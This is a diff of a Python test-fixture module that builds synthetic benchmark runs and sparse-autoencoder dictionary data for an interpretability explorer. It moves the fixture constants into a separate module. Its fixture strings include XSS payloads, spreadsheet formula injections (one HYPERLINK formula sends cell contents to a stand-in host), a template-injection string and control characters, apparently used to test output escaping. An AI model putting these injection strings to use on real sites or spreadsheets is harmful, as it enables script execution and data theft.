@@ -12,88 +12,26 @@ from pathlib import Path
 
 import numpy as np
 import polars as pl
+from explorer_dictionary import HOSTILE, RARE, SAE, WIDTH, WORDS, write_dictionary_folder
 
 from competency_gaps.activations.pooling import SparseRow
 from competency_gaps.activations.store import CasStore, make_block
 from competency_gaps.activations.tokens import token_row, token_tensors
 from competency_gaps.config import RunConfig, as_dict
-from competency_gaps.dictionary import label_table
 from competency_gaps.dictionary.flags import LatentFacts
-from competency_gaps.dictionary.folder import write_dictionary
-from competency_gaps.dictionary.themes import ThemeNames, Themes, name_table, theme_table, write_themes
 from competency_gaps.runs.manifest import write_manifest
 from competency_gaps.runs.naming import name_finished_run
 from competency_gaps.runs.results import write_results
 from competency_gaps.sae.reference import Reference
 
-WIDTH = 96
 NAMES = ("sums", '<img src=x onerror="alert(1)">', "=cmd|' /C calc'!A0", "nothing kept")
 """Benchmarks: scored; scored, with unscored and excluded items; imported without any score; all excluded."""
 SIZES = (120, 90, 20, 2)
-HOSTILE = (
-    "<script>window.hacked = 1</script>",
-    "</script><svg onload=alert(2)>",
-    '=HYPERLINK("http://example.invalid/?"&A1,"win")',
-    "+1+cmd|' /C calc'!A0",
-    "\u202eright to left\u202c and back",
-    "bell\x07 escape\x1b[31m null\x00 end",
-    "{{constructor.constructor('alert(3)')()}}",
-    "🦊🧑‍🚀 astral letters 𝒳 before the word",
-    "line one\r\nline two\tand a tab",
-)
 HUGE = 1_000_000
 """Characters of the longest prompt."""
 BEFORE, AFTER = "Answer the question.\n\n", "\nAnswer:"
 SECRETS = ("zebrafish", "quartzite", "marzipan")
 """Words that stand only in prompts, only in responses, and only in expected answers."""
-_WORDS = [
-    *[
-        "which",
-        "of",
-        "these",
-        "is",
-        "the",
-        "smallest",
-        "number",
-        "that",
-        "can",
-        "be",
-        "written",
-        "before",
-        "March",
-        "when",
-        "all",
-        "squares",
-        "are",
-        "blue",
-    ]
-]
-_RARE = [
-    *[
-        "Roman",
-        "numerals",
-        "calendar",
-        "dates",
-        "fractions",
-        "family",
-        "capitals",
-        "negation",
-        "spelling",
-        "units",
-        "prices",
-    ]
-]
-_SAE = {
-    "name": "tiny-sae",
-    "architecture": "jumprelu",
-    "d_in": 32,
-    "d_sae": WIDTH,
-    "dtype": "float32",
-    "hook_name": "blocks.2.hook_resid_post",
-    "model_name": "tiny",
-    "neuronpedia_id": "tiny/2-res",
-    "weights_sha256": "ab" * 32,
-}
 
 
 @dataclass(frozen=True)
@@ -134,7 +72,7 @@ def hostile_run(folder: Path, *, themes: bool = True, labels: bool = True, seed:
         config=config,
     )
     write_manifest(run, _manifest(items, shards, config, evidence))
-    _dictionary(dictionary, themes=themes, labels=labels)
+    write_dictionary_folder(dictionary, themes=themes, labels=labels)
     if themes or labels:
         name_finished_run(run, dictionary)
     return Made(run, dictionary)
@@ -163,7 +101,7 @@ _SCHEMA = {
 
 
 def _item(rng: np.random.Generator, name: str, number: int, i: int) -> dict[str, object]:
-    words = [*rng.choice(_WORDS, 7), *rng.choice(_RARE[3 * number : 3 * number + 7], 2), SECRETS[0]]
+    words = [*rng.choice(WORDS, 7), *rng.choice(RARE[3 * number : 3 * number + 7], 2), SECRETS[0]]
     rng.shuffle(words)
     prompt = " ".join(words) + "?"
     if i < len(HOSTILE):
@@ -172,8 +110,8 @@ def _item(rng: np.random.Generator, name: str, number: int, i: int) -> dict[str,
         prompt = f"{prompt} " + "x" * (HUGE - len(prompt) - 1)
     excluded = "no tokens of its own" if number == 3 or (number == 1 and i % 40 == 39) else None
     unscored = excluded is None and (number == 2 or (number == 1 and i % 11 == 5))
-    failing = "Roman" in prompt
-    score = float(rng.random() < (0.15 if failing else 0.8 - 0.2 * number))
+    chance = 0.05 if "Roman" in prompt else 1.0 if "prices" in prompt else 0.45
+    score = float(rng.random() < chance)
     text = f"{BEFORE}{prompt}{AFTER}"
     hostile = HOSTILE[i % len(HOSTILE)] if i % 5 == 0 else "plain"
     return {
@@ -224,9 +162,10 @@ class _Words:
 
 def excited(word: str) -> dict[int, float]:
     """Concepts that a word excites, and how strongly; concept 0 is dense, the last eight are never active."""
-    seed = sum((place + 1) * ord(letter) for place, letter in enumerate(word.strip()[:60]))
-    rng = np.random.default_rng(seed)
-    concepts = np.unique([0, *rng.integers(1, WIDTH - 8, 5)])
+    word = word.strip()
+    rng = np.random.default_rng(sum((place + 1) * ord(letter) for place, letter in enumerate(word[:60])))
+    own = {"Roman": [1, 2, 3], "prices": [4, 5, 6]}.get(word, rng.integers(7, WIDTH - 8, 5))
+    concepts = np.unique([0, *own])
     return dict(zip(concepts.tolist(), rng.lognormal(0, 0.6, len(concepts)).astype(np.float32), strict=True))
 
 
@@ -325,8 +264,8 @@ def _manifest(
             "layers": 4,
             "weights_sha256": "5a" * 32,
         },
-        "sae": _SAE,
-        "hook": {"name": _SAE["hook_name"], "path": "model.layers.2", "side": "output", "layer": 2},
+        "sae": SAE,
+        "hook": {"name": SAE["hook_name"], "path": "model.layers.2", "side": "output", "layer": 2},
         "span": config.span,
         "pooling": config.pooling,
         "paper": config.paper,
@@ -348,55 +287,3 @@ def _manifest(
         "settings": as_dict(config),
         "timings": {"load": 1.0, "reading": 2.5},
     }
-
-
-def _dictionary(folder: Path, *, themes: bool, labels: bool) -> None:
-    write_dictionary(folder, _SAE, {"name": "tiny/<b>model</b>"})
-    if labels:
-        label_table.write_label_table(folder, _labels())
-    if themes:
-        used = np.arange(WIDTH) < WIDTH - 4
-        theme = (np.arange(WIDTH) // 24).astype(np.int32)[used]
-        subtheme = (np.arange(WIDTH) // 8).astype(np.int32)[used]
-        angle = np.arange(WIDTH)[used] * 2.4
-        xy = np.stack([np.cos(angle), np.sin(angle)], axis=1).astype(np.float32) * np.sqrt(angle)[:, None]
-        names = ThemeNames(["<b>numbers</b>", "=1+1", "words", "time"], [f"part {i}" for i in range(12)])
-        table = theme_table(Themes(theme, subtheme, xy), used)
-        write_themes(folder, table, name_table(names, table))
-    pl.DataFrame(
-        {
-            "concept": pl.Series(range(WIDTH), dtype=pl.Int32),
-            "promoted": [[f" up{concept}", "<b>"] for concept in range(WIDTH)],
-            "promoted_logits": pl.Series([[2.0, 1.0]] * WIDTH, dtype=pl.List(pl.Float32)),
-            "suppressed": [[f" down{concept}"] for concept in range(WIDTH)],
-            "suppressed_logits": pl.Series([[-1.0]] * WIDTH, dtype=pl.List(pl.Float32)),
-        }
-    ).write_parquet(folder / "logits.parquet")
-    pl.DataFrame(
-        {
-            "concept": pl.Series(range(WIDTH), dtype=pl.Int32),
-            "similar": pl.Series([[(c + 1) % WIDTH, (c + 2) % WIDTH] for c in range(WIDTH)], dtype=pl.List(pl.Int32)),
-            "cosine": pl.Series([[0.75, 0.5]] * WIDTH, dtype=pl.List(pl.Float32)),
-        }
-    ).write_parquet(folder / "similar.parquet")
-
-
-def _labels() -> pl.DataFrame:
-    """Of every fourth concept none; the others explained well or poorly, imported, or automatic."""
-    rows = []
-    for concept in range(WIDTH):
-        if concept % 4 == 3:
-            continue
-        kind = ("explained", "imported", "automatic")[concept % 3]
-        score = (0.9, 0.52)[concept % 2] if kind == "explained" else None
-        hostile = HOSTILE[concept % len(HOSTILE)] if concept % 5 == 0 else f"concept of <i>{_RARE[concept % 10]}</i>"
-        label = label_table.clean_label(hostile)
-        rows.append((concept, label, kind, "<b>explainer</b>", "x", score, None, None, "none", False, "2026-11-24"))
-        if kind == "explained":
-            second = (concept, f"second label {concept}", "automatic", None, None, None, None, None, None, True)
-            rows.append((*second, "2026-11-23"))
-    names = [name for name in label_table.SCHEMA if name not in ("score", "scored_by")]
-    table = pl.DataFrame(rows, schema={name: label_table.SCHEMA[name] for name in names}, orient="row")
-    return label_table.with_scores(
-        table.with_columns(score=pl.lit(None, pl.Float64), scored_by=pl.lit(None, pl.String))
-    ).select(*label_table.SCHEMA)
